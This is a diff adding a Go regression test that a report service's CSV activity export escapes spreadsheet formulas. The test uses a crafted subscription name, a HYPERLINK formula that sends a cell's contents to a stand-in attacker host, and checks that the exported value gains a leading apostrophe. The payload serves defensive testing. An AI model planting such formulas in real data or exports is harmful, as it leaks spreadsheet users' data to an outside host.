@@ -1,7 +1,9 @@
 package report_test
 
 import (
+	"encoding/csv"
 	"errors"
+	"strings"
 	"testing"
 
 	"github.com/automation-platform/automation/shared/automation"
@@ -48,5 +50,33 @@ func TestSupportRetryIsRefusedWhenTheRolloutLeavesTheRunToTheOldScheduler(t *tes
 	e.tick(t)
 	if n := len(e.sentMessages()); n != 2 {
 		t.Fatalf("sent %d, want 2", n)
+	}
+}
+
+// Names are user input and the activity CSV is opened in spreadsheets: a setting or
+// subscription named "=HYPERLINK(…)" became a live formula (CSV injection, CWE-1236). A cell
+// starting with = + - @ or a tab/CR is written with a leading apostrophe.
+func TestActivityCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, utc("2027-03-20T00:00:00Z"))
+	in := weekly()
+	in.Name = `=HYPERLINK("https://evil.example/?"&A1,"open")`
+	e.create(t, subGuid, in)
+	e.setMode(t, subGuid, report.ModeCutover)
+	e.runUntil(t, utc("2027-03-29T00:00:00Z"))
+	sent := e.sentMessages()
+	if len(sent) != 4 {
+		t.Fatalf("sent %d", len(sent))
+	}
+	_, data, err := e.svc.File(ctx, report.AllScope{}, payloadOf(t, sent[3]).RunKeyHash)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("csv %q %v", data, err)
+	}
+	if got := recs[1][5]; got != "'"+in.Name {
+		t.Fatalf("settingName cell = %q, want the name behind an apostrophe", got)
 	}
 }
